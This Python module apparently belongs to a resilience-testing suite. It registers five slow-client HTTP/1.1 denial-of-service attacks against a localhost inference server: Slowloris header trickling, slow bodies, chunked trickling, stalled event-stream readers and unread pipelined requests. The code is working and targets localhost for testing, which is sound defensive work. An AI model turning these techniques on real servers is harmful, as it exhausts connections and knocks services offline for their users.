"""Attacks over HTTP/1.1 by clients that take their time."""

from __future__ import annotations

import itertools
import json
from typing import TYPE_CHECKING, Final

from .catalog import attack
from .driver import Burst

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .driver import Driver

_CONNECTIONS: Final = 200
_HEAD: Final = b"POST /generate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"


def _trickle(start: bytes, piece: bytes, seconds: float) -> Iterator[Burst | float]:
    yield Burst(start)
    for _ in itertools.repeat(None):
        yield seconds
        yield Burst(piece)


@attack("http", pace="slow")
def slow_headers(driver: Driver) -> None:
    """Sends a header field per second and never the last, on 200 connections (Slowloris)."""
    driver.play(lambda: _trickle(_HEAD, b"x-more: 1\r\n", 1.0), _CONNECTIONS)


@attack("http", pace="slow")
def slow_body(driver: Driver) -> None:
    """Announces 1 MB and sends a byte per second, on 200 connections."""
    driver.play(lambda: _trickle(_HEAD + b"content-length: 1000000\r\n\r\n", b" ", 1.0), _CONNECTIONS)


@attack("http", pace="slow")
def chunked_trickle(driver: Driver) -> None:
    """Sends a chunk of one byte after the other, 100 per second on each of 50 connections."""
    start = _HEAD + b"transfer-encoding: chunked\r\n\r\n"
    driver.play(lambda: _trickle(start, b"1;ext=x\r\n \r\n", 0.01), 50)


@attack("http", pace="slow")
def stalled_sse_reader(driver: Driver) -> None:
    """Asks for 100 streams of events on as many connections, and reads nothing of them."""
    body = json.dumps({"text": "hi", "sampling_params": {"max_new_tokens": 20_000}, "stream": True}).encode()

    def script() -> Iterator[Burst | float]:
        yield Burst(_HEAD + b"content-length: %d\r\n\r\n" % len(body) + body)

    driver.play(script, 100, read=False, receive_buffer=4096)


@attack("http", pace="slow")
def answers_unread(driver: Driver) -> None:
    """Asks 2,000 times on each of 10 connections, and reads nothing."""

    def script() -> Iterator[Burst | float]:
        yield Burst(b"GET /get_server_info HTTP/1.1\r\nhost: localhost\r\n\r\n" * 2000, 2000)

    driver.play(script, 10, read=False, receive_buffer=4096)
